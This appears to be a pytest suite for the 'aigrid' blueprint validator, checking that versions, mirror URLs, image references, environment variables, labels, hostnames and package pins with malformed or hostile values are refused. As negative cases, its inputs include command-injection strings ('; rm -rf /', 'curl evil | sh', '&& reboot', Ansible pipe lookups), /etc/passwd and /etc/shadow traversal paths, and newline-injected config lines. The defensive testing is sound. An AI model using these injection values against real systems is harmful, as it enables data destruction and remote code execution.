"""Hostile and mistaken values are refused by the models (AG011), naming the field and the form."""

from __future__ import annotations

from pathlib import Path

import pytest

from aigrid.validate import validate_file
from conftest import BLUEPRINTS, run_aigrid

# A valid blueprint with every free-text field set once, each on its own line.
VALID = (
    (BLUEPRINTS / "examples" / "invalid" / "AG401-plaintext-secret.yaml")
    .read_text()
    .replace("      API_TOKEN: hunter2  # <- AG401\n", "      API_TOKEN: secret://team/api-token\n")
)


def only_error(write, *edits: tuple[str, str]) -> tuple[str, str]:  # type: ignore[no-untyped-def]
    """The one diagnostic a variant of VALID gives, as (path, message); it must be AG011."""
    text = VALID
    for old, new in edits:
        assert old in text, old
        text = text.replace(old, new, 1)
    diagnostics = validate_file(write("variant.yaml", text)).diagnostics
    assert [d.code for d in diagnostics] == ["AG011"], [(d.code, d.message) for d in diagnostics]
    return diagnostics[0].path, diagnostics[0].message


def valid(write, *edits: tuple[str, str]) -> Path:  # type: ignore[no-untyped-def]
    text = VALID
    for old, new in edits:
        assert old in text, old
        text = text.replace(old, new, 1)
    path: Path = write("variant.yaml", text)
    result = validate_file(path)
    assert result.diagnostics == [], [(d.code, d.message) for d in result.diagnostics]
    return path


def test_the_base_variant_is_valid(write) -> None:  # type: ignore[no-untyped-def]
    valid(write)


VERSIONS = [
    ("driver: {version: 580.126.20,", "driver: {version: {v},", "stack.driver.version"),
    ("cuda: {version: 13.0.2}", "cuda: {version: {v}}", "stack.cuda.version"),
    ("tensorrt: {version: 10.14.1}", "tensorrt: {version: {v}}", "stack.tensorrt.version"),
    (
        "containerRuntime: {version: 2.3.1}",
        "containerRuntime: {version: {v}}",
        "stack.containerRuntime.version",
    ),
    (
        "containerToolkit: {version: 1.19.1}",
        "containerToolkit: {version: {v}}",
        "stack.containerToolkit.version",
    ),
    ("kubernetes: {version: 1.34.9}", "kubernetes: {version: {v}}", "stack.kubernetes.version"),
    ("gpuOperator: {version: 26.3.2,", "gpuOperator: {version: {v},", "stack.gpuOperator.version"),
]


@pytest.mark.parametrize(("old", "new", "field"), VERSIONS, ids=[v[2] for v in VERSIONS])
@pytest.mark.parametrize("value", ["latest", "stable", '""', "13", "1.2.3-rc1", "'13.0 x'", "1.2.3.4.5"])
def test_versions_are_dotted_numbers(write, old: str, new: str, field: str, value: str) -> None:  # type: ignore[no-untyped-def]
    path, message = only_error(write, (old, new.replace("{v}", value)))
    assert path == field
    assert "expected a dotted numeric version" in message and "not a channel such as latest" in message


@pytest.mark.parametrize(("old", "new", "field"), VERSIONS[:5], ids=[v[2] for v in VERSIONS[:5]])
def test_a_leading_v_only_where_upstream_writes_one(write, old: str, new: str, field: str) -> None:  # type: ignore[no-untyped-def]
    version = old.split("version: ")[1].strip("},")
    path, _ = only_error(write, (old, new.replace("{v}", f"v{version}")))
    assert path == field


def test_kubernetes_and_operator_versions_drop_the_upstream_v(write) -> None:  # type: ignore[no-untyped-def]
    path = valid(
        write,
        ("kubernetes: {version: 1.34.9}", "kubernetes: {version: v1.34.9}"),
        ("gpuOperator: {version: 26.3.2,", "gpuOperator: {version: v26.3.2,"),
    )
    blueprint = validate_file(path).blueprint
    assert blueprint is not None
    assert (blueprint.stack.kubernetes.version, blueprint.stack.gpu_operator.version) == ("1.34.9", "26.3.2")


def test_compile_refuses_an_unpinned_version_instead_of_crashing(write, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = write("latest.yaml", VALID.replace("cuda: {version: 13.0.2}", "cuda: {version: latest}"))
    out = tmp_path / "out"
    proc = run_aigrid("compile", str(path), "--out", str(out))
    output = proc.stdout + proc.stderr
    assert proc.returncode == 1, output
    assert "AG011" in output and "stack.cuda.version" in output
    assert not out.exists()


MIRRORS = "  gpuOperator: {version: 26.3.2, migStrategy: mixed}\n"


def mirror(field: str, value: str) -> tuple[str, str]:
    return MIRRORS, f"{MIRRORS}  mirrors:\n    {field}: {value}\n"


@pytest.mark.parametrize(
    "value",
    [
        '"https://mirror.example.net/ubuntu\\nTrusted: yes"',
        '"https://mirror.example.net/ubuntu Trusted=yes"',
        'https://mirror.example.net/ub"untu',
        "ftp://mirror.example.net/ubuntu",
        "file:///srv/mirror",
        "https://",
        "https://bob:hunter2@mirror.example.net/ubuntu",
        "https://mirror.example.net:0/ubuntu",
        "https://mirror.example.net:99999/ubuntu",
        "https://mirror_example!/ubuntu",
        "https://mirror.example.net/ubuntu#frag",
        "mirror.example.net/ubuntu",
    ],
)
@pytest.mark.parametrize("field", ["apt", "helm", "pip"])
def test_mirror_urls_are_refused(write, field: str, value: str) -> None:  # type: ignore[no-untyped-def]
    path, message = only_error(write, mirror(field, value))
    assert path == f"stack.mirrors.{field}"
    assert "URL" in message or "https://" in message


@pytest.mark.parametrize(
    "value", ["https://mirror.example.net/ubuntu", "https://10.0.0.5:8080/apt", "https://[2001:db8::5]/apt/"]
)
def test_mirror_urls_that_are_accepted(write, value: str) -> None:  # type: ignore[no-untyped-def]
    valid(write, mirror("apt", value))


@pytest.mark.parametrize(
    "value",
    [
        "https://registry.example.net",
        "user:pw@registry.example.net",
        "registry.example.net:99999",
        "registry example.net",
        "registry.example.net/Mirror",
        '"registry.example.net\\n[plugins]"',
    ],
)
def test_registry_is_host_port_path(write, value: str) -> None:  # type: ignore[no-untyped-def]
    path, message = only_error(write, mirror("containerRegistry", value))
    assert path == "stack.mirrors.containerRegistry" and "host[:port][/path]" in message


def test_registry_with_port_and_path(write) -> None:  # type: ignore[no-untyped-def]
    valid(write, mirror("containerRegistry", "registry.example.net:5000/mirror"))


MODEL = "model: {name: detector}"


@pytest.mark.parametrize(
    "repository", ["http://models.example.net/detector", "ftp://models/x", "s3://", "'s3://bucket/a b'"]
)
def test_model_repository_urls(write, repository: str) -> None:  # type: ignore[no-untyped-def]
    path, _ = only_error(write, (MODEL, f"model: {{name: detector, repository: {repository}}}"))
    assert path == "workloads[detector].model.repository"


@pytest.mark.parametrize(
    "repository",
    [
        "s3://bucket/detector",
        "gs://bucket/detector",
        "as://account/container/detector",
        "pvc://models/detector/3",
    ],
)
def test_model_repository_schemes(write, repository: str) -> None:  # type: ignore[no-untyped-def]
    valid(write, (MODEL, f"model: {{name: detector, repository: {repository}}}"))


@pytest.mark.parametrize(
    "repository",
    ["pvc://Models/detector", "pvc://models:80/detector", "s3://bucket/../detector", "gs://b/x?y=1"],
)
def test_model_repository_claims_and_paths(write, repository: str) -> None:  # type: ignore[no-untyped-def]
    """A claim is a Kubernetes name; no path climbs out of the repository (a subPath with
    `..` is refused by the API server, and a Triton path with one reads elsewhere)."""
    path, _ = only_error(write, (MODEL, f"model: {{name: detector, repository: {repository}}}"))
    assert path == "workloads[detector].model.repository"


@pytest.mark.parametrize(
    ("field", "value"),
    [("name", "../../etc/passwd"), ("name", "'detector; rm -rf /'"), ("version", "'1 && reboot'")],
)
def test_model_name_and_version(write, field: str, value: str) -> None:  # type: ignore[no-untyped-def]
    model = f"model: {{name: {value}}}" if field == "name" else f"model: {{name: detector, version: {value}}}"
    path, _ = only_error(write, (MODEL, model))
    assert path == f"workloads[detector].model.{field}"


def test_model_version_may_be_a_bare_number(write) -> None:  # type: ignore[no-untyped-def]
    path = valid(write, (MODEL, "model: {name: meta-llama/llama-3.1-8b, version: 5}"))
    blueprint = validate_file(path).blueprint
    assert blueprint is not None and blueprint.workloads[0].model.version == "5"


RUNTIME = "    runtime: triton\n"


@pytest.mark.parametrize(
    "image",
    [
        "'registry.example.net/ai/detector:2.4.1; curl evil | sh'",
        "Registry.example.net/AI/detector:1",
        "'detector 1'",
        "registry.example.net:99999/ai/detector",
        "'registry.example.net/ai/detector:2.4.1\"'",
        "registry.example.net/ai/detector@sha256:abc",
    ],
)
def test_image_references(write, image: str) -> None:  # type: ignore[no-untyped-def]
    path, message = only_error(write, (RUNTIME, f"    runtime: custom\n    image: {image}\n"))
    assert path == "workloads[detector].image" and "OCI image reference" in message


@pytest.mark.parametrize(
    "image",
    [
        "registry.example.net/ai/detector:2.4.1",
        "nvcr.io/nvidia/tritonserver:25.10-py3",
        "localhost:5000/detector",
        "detector@sha256:" + "a" * 64,
    ],
)
def test_image_references_accepted(write, image: str) -> None:  # type: ignore[no-untyped-def]
    valid(write, (RUNTIME, f"    runtime: custom\n    image: {image}\n"))


ENV = "      API_TOKEN: secret://team/api-token\n"


@pytest.mark.parametrize(
    ("name", "value", "expect"),
    [
        ("'A=B'", "x", "environment variable name"),
        ("1ABC", "x", "environment variable name"),
        ("'MY VAR'", "x", "environment variable name"),
        ("AIGRID_MODEL", "other", "set by aigrid itself"),
        ("LOG_LEVEL", '"debug\\u0000"', "control characters"),
        ("LOG_LEVEL", '"debug\\e[2J"', "control characters"),
    ],
)
def test_environment_names_and_values(write, name: str, value: str, expect: str) -> None:  # type: ignore[no-untyped-def]
    path, message = only_error(write, (ENV, f"      {name}: {value}\n"))
    assert path.startswith("workloads[detector].env")
    assert expect in message


def test_environment_names_kubernetes_accepts(write) -> None:  # type: ignore[no-untyped-def]
    valid(write, (ENV, '      LOG.LEVEL: debug\n      _private-x: "a b\\tc\\nd"\n'))


NODE = "      - hostname: edge-01-gpu01\n"


@pytest.mark.parametrize(
    ("key", "value", "expect"),
    [
        ("kubernetes.io/role", "gpu", "kubernetes.io or k8s.io"),
        ("node-role.kubernetes.io/worker", "''", "kubernetes.io or k8s.io"),
        ("k8s.io/pool", "a", "kubernetes.io or k8s.io"),
        ("example.k8s.io/pool", "a", "kubernetes.io or k8s.io"),
        ("aigrid.dev/site", "other", "set by aigrid itself"),
        ("tier.aigrid.dev/x", "a", "set by aigrid itself"),
        ("'bad key'", "a", "label key"),
        ("Example.com/rack", "a", "DNS subdomain"),
        ("example.com/" + "r" * 64, "a", "label key"),
        ("rack", "'r 12'", "label value"),
        ("rack", "r" * 64, "label value"),
        ("rack", "'a,b=c'", "label value"),
    ],
)
def test_node_labels(write, key: str, value: str, expect: str) -> None:  # type: ignore[no-untyped-def]
    path, message = only_error(write, (NODE, f"{NODE}        labels: {{{key}: {value}}}\n"))
    assert path.startswith("sites[edge-01].nodes[edge-01-gpu01].labels")
    assert expect in message


def test_node_labels_a_kubelet_may_set(write) -> None:  # type: ignore[no-untyped-def]
    labels = (
        "{node.kubernetes.io/pool: gpu, topology.kubernetes.io/zone: z1, example.com/rack: r-12, "
        "kubelet.kubernetes.io/x: '', nvidia.com/gpu.deploy.driver: 'false'}"
    )
    valid(write, (NODE, f"{NODE}        labels: {labels}\n"))


def test_blueprint_labels_may_use_the_aigrid_prefix(write) -> None:  # type: ignore[no-untyped-def]
    valid(
        write, ("  name: invalid-ag401\n", "  name: invalid-ag401\n  labels: {aigrid.dev/stack: '2026.11'}\n")
    )
    path, _ = only_error(
        write, ("  name: invalid-ag401\n", "  name: invalid-ag401\n  labels: {stack: 'a b'}\n")
    )
    assert path == "metadata.labels.stack"


@pytest.mark.parametrize("hostname", ["GPU01", "gpu_01", "-gpu01", "gpu01.", "a" * 64, "'gpu01 ; reboot'"])
def test_hostnames(write, hostname: str) -> None:  # type: ignore[no-untyped-def]
    path, message = only_error(write, ("hostname: edge-01-gpu01", f"hostname: {hostname}"))
    assert path.startswith("sites[edge-01].nodes") and path.endswith(".hostname")
    assert "RFC 1123" in message


def test_hostname_may_be_a_fqdn(write) -> None:  # type: ignore[no-untyped-def]
    valid(write, ("hostname: edge-01-gpu01", "hostname: gpu01.edge-01.example.net"))


@pytest.mark.parametrize(
    ("old", "new", "field"),
    [
        ("    region: lab\n", "    region: Lab West\n", "sites[edge-01].region"),
        ("    tier: edge\n", "    tier: edge\n    carrier: ACME\n", "sites[edge-01].carrier"),
        ("    slice: embb\n", "    slice: Embb\n", "workloads[detector].slice"),
        (
            "  name: invalid-ag401\n",
            '  name: invalid-ag401\n  description: "two\\nlines"\n',
            "metadata.description",
        ),
        ("gpus: {model: L40S, count: 2}", "gpus: {model: 'L40S;x', count: 2}", "gpus.model"),
        ("gpu: {count: 1}", "gpu: {mig: '1g.10gb; x'}", "workloads[detector].gpu.mig"),
    ],
)
def test_names_and_text(write, old: str, new: str, field: str) -> None:  # type: ignore[no-untyped-def]
    path, _ = only_error(write, (old, new))
    assert path.endswith(field)


@pytest.mark.parametrize(
    ("reference", "expect"),
    [
        ("secret://../../etc/shadow", "secret:// must be followed by a path"),
        ("env://BAD-NAME", "env:// must be followed by a variable name"),
        ("vault://", "vault:// must be followed by a path"),
        ('"secret://team/tok\\nen"', "secret:// must be followed by a path"),
    ],
)
def test_secret_references(write, reference: str, expect: str) -> None:  # type: ignore[no-untyped-def]
    path, message = only_error(write, (ENV, f"      API_TOKEN: {reference}\n"))
    assert path == "workloads[detector].env.API_TOKEN"
    assert expect in message


def test_kubeconfig_reference_is_one_line(write) -> None:  # type: ignore[no-untyped-def]
    kubeconfig = '    kubeconfig: "secret://clusters/edge-01\\nTrusted: yes"\n'
    path, message = only_error(write, ("    rtt: 5ms\n", "    rtt: 5ms\n" + kubeconfig))
    assert path == "sites[edge-01].kubeconfig" and "control characters" in message


@pytest.mark.parametrize(
    ("old", "new", "field"),
    [
        ("rtt: 5ms", "rtt: 1" + "0" * 400 + "ms", "sites[edge-01].rtt"),
        ("rtt: 5ms", "rtt: 11s", "sites[edge-01].rtt"),
        ("slo: 150ms", "slo: 10001ms", "workloads[detector].latency.slo"),
        ("maximum: 100Mbps", "maximum: 1" + "0" * 400 + "Mbps", "slices[embb].bitrate.maximum"),
        ("maximum: 100Mbps", "maximum: 11Tbps", "slices[embb].bitrate.maximum"),
    ],
)
def test_absurd_quantities(write, old: str, new: str, field: str) -> None:  # type: ignore[no-untyped-def]
    path, message = only_error(write, (old, new))
    assert path == field and "is beyond" in message


def test_ten_seconds_is_still_a_duration(write) -> None:  # type: ignore[no-untyped-def]
    valid(write, ("slo: 150ms", "slo: 10s"))


@pytest.mark.parametrize(
    ("profiles", "expect"),
    [
        ("{1g.10gb: -1, 3g.40gb: 1}", "greater than or equal to 0"),
        ("{1g.10gb: 0}", "no MIG instance at all"),
        ("{1g.10gb: 0, 3g.40gb: 0}", "no MIG instance at all"),
        ("{'1g.10gb; x': 1}", "MIG profile"),
    ],
)
def test_mig_counts(write, profiles: str, expect: str) -> None:  # type: ignore[no-untyped-def]
    gpus = "gpus: {model: H100-SXM-80GB, count: 1, mig: {profiles: " + profiles + "}}"
    _, message = only_error(write, ("gpus: {model: L40S, count: 2}", gpus))
    assert expect in message


def test_mig_layout_name_must_be_a_label_value(write) -> None:  # type: ignore[no-untyped-def]
    gpus = "gpus: {model: H100-SXM-80GB, count: 1, mig: {layout: all-1g.10gb+me}}"
    path, message = only_error(write, ("gpus: {model: L40S, count: 2}", gpus))
    assert path.endswith("gpus.mig.layout") and "node label value" in message


@pytest.mark.parametrize(
    "name",
    [
        "eth/0",
        "bond 0",
        "..",
        ".",
        "a" * 16,
        "eno1:1",
        "-eno1",
        "eno1\\nVLAN=x",
        '\'{{ lookup("pipe", "id") }}\'',
    ],
)
def test_slice_interface_is_a_linux_interface_name(write, name: str) -> None:  # type: ignore[no-untyped-def]
    """Linux interface names are at most 15 bytes without '/', ':' or whitespace; the name
    lands in netplan, a systemd-networkd file name and the shaping script."""
    path, message = only_error(
        write, ("    network: {sliceInterface: eno1}\n", f"    network: {{sliceInterface: {name}}}\n")
    )
    assert path == "sites[edge-01].network.sliceInterface"
    assert "Linux network interface name" in message


@pytest.mark.parametrize(
    "name", ["eno1", "ens1f0", "enp65s0f1np1", "bond0", "br-slices", "eth0.100", "a" * 15]
)
def test_real_interface_names_are_accepted(write, name: str) -> None:  # type: ignore[no-untyped-def]
    valid(write, ("    network: {sliceInterface: eno1}\n", f"    network: {{sliceInterface: {name}}}\n"))


CUDA = "cuda: {version: 13.0.2}"


@pytest.mark.parametrize(
    ("package", "build", "expect"),
    [
        ("'libcublas-13-0; rm -rf /'", "13.1.1.3", "Debian package name"),
        ("LibCublas-13-0", "13.1.1.3", "Debian package name"),
        ("'-libcublas'", "13.1.1.3", "Debian package name"),
        ("libcublas-13-0", "latest", "Debian package version"),
        ("libcublas-13-0", "'13.1.1.3 x'", "Debian package version"),
        ("libcublas-13-0", "'13.1.1.3\\nPin-Priority: 1001'", "Debian package version"),
        ("libcublas-13-0", "'*'", "Debian package version"),
        ("libcublas-13-0", '\'{{ lookup("pipe", "id") }}\'', "Debian package version"),
    ],
)
def test_cuda_patches_are_package_names_and_versions(write, package: str, build: str, expect: str) -> None:  # type: ignore[no-untyped-def]
    """A patch lands in an apt pin file and on a command line run as root on the node."""
    path, message = only_error(write, (CUDA, f"cuda: {{version: 13.0.2, patches: {{{package}: {build}}}}}"))
    assert path.startswith("stack.cuda.patches")
    assert expect in message


@pytest.mark.parametrize("build", ["13.1.1.3", "13.1.1.3-1", "13.1", "1:13.1.1.3-1ubuntu1"])
def test_cuda_patch_builds_as_debian_writes_them(write, build: str) -> None:  # type: ignore[no-untyped-def]
    valid(write, (CUDA, f"cuda: {{version: 13.0.2, patches: {{libcublas-13-0: {build}}}}}"))
